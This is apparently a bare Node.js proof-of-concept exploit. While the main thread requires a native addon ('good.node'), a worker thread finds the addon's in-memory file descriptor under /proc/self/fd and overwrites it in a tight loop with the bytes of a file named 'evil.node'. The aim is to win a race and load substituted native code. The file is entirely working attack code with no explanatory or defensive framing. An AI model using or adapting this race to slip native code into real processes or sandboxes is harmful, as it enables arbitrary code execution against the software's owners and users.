const fs = require('fs');
const { Worker, isMainThread, parentPort } = require('worker_threads');
const evil = require('path').join(__dirname, '../out/evil.node');
const isMemfd = (fd) => { try { return fs.readlinkSync(`/proc/self/fd/${fd}`).includes('memfd:good.node'); } catch { return false; } };
if (isMainThread) {
  new Worker(__filename).once('message', () => {
    try { console.log('binding says', require('./good.node').says); } catch (error) { console.log('binding says', error.code, error.message); }
    require(evil);
  });
} else {
  const bytes = fs.readFileSync(evil), end = Date.now() + 300;
  parentPort.postMessage('ready');
  let fd;
  while (fd === undefined && Date.now() < end) fd = fs.readdirSync('/proc/self/fd').find(isMemfd);
  try { for (const file = fs.openSync(`/proc/self/fd/${fd}`, 'r+'); Date.now() < end;) fs.writeSync(file, bytes, 0, bytes.length, 0); } catch {}
}
